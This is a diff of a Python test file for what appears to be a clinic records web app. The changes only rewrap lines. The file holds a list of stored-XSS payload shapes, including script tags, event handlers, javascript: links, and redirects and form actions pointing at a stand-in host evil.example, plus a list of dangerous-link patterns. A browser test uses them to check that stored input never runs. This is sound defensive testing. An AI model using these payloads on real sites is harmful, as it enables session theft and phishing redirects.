@@ -31,9 +31,11 @@ SHAPES = (
     "<svg/onload={c}>", "</title><script>{c}</script>", "</textarea><script>{c}</script>", "</style><script>{c}</script>",
     "</script><script>{c}</script>", "<!--><script>{c}</script>-->", "]]><script>{c}</script>", "<a href=javascript:{c}>x</a>",
     '" autofocus onfocus="{c}', "' onmouseover='{c}", "` onclick=`{c}", "<iframe srcdoc='<script>{c}</script>'>",
-    "<math><mi xlink:href=javascript:{c}>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<math><mi xlink:href=javascript:{c}>", "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
     "<form action=//evil.example><button>", "<link rel=stylesheet href=//evil.example/x.css>", "{{{{ {c} }}}}{{% debug %}}",
-    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}", "%3Cscript%3E{c}", "\\u003cscript\\u003e{c}", "<ScRiPt>{c}</sCrIpT>",
+    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}", "%3Cscript%3E{c}", "\\u003cscript\\u003e{c}",
+    "<ScRiPt>{c}</sCrIpT>",
     "<script\n>{c}</script>", "<details open ontoggle={c}>", "<xss-a style=color:red hx-get=/p/ hx-on:click={c} x-init={c}>",
 )  # fmt: skip
 PAYLOADS = [shape.format(c=CANARY) for shape in SHAPES]
@@ -41,7 +43,8 @@ FREE_TEXT = {
     "name", "given_name", "family_name", "address", "email_problem", "note", "reaction_note", "reason", "product", "maker",
     "lot_number", "lot_label", "licence_number", "cancel_reason", "held_back_reason", "stopped_reason", "ended_reason",
     "withdrawn_reason", "identity_checked", "history_changes", "evidence", "flagged", "booked_by_label", "subject", "text",
-    "failure", "overbooked_reason", "signed_name", "signed_meaning", "revoked_reason", "phone_text", "map_url", "emergency_number",
+    "failure", "overbooked_reason", "signed_name", "signed_meaning", "revoked_reason", "phone_text", "map_url",
+    "emergency_number",
     "doer_label", "evaluated_by_label", "skipped_reason", "allergen",
 }  # fmt: skip
 DANGEROUS_LINKS = ("javascript:", "data:text", "vbscript:", "//evil", "https://evil")
@@ -186,7 +189,8 @@ def test_nothing_stored_runs_in_a_browser(new_page: Any, live_server: Any, setti
     client = make.signed_in(Client(), world.people["medical-lead"])
     value = client.cookies[settings.SESSION_COOKIE_NAME].value
     page.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": value, "url": live_server.url}])
-    names = {"board", "patient", "patients", "course", "appointment", "record", "messages", "message", "stock", "audit-log", "staff",
+    names = {"board", "patient", "patients", "course", "appointment", "record", "messages", "message", "stock", "audit-log",
+             "staff",
              "medicines", "measurements", "patient-edit", "document", "patient-documents", "protocols", "course-new"}  # fmt: skip
     opened = 0
     for pattern in our_urls("staff"):
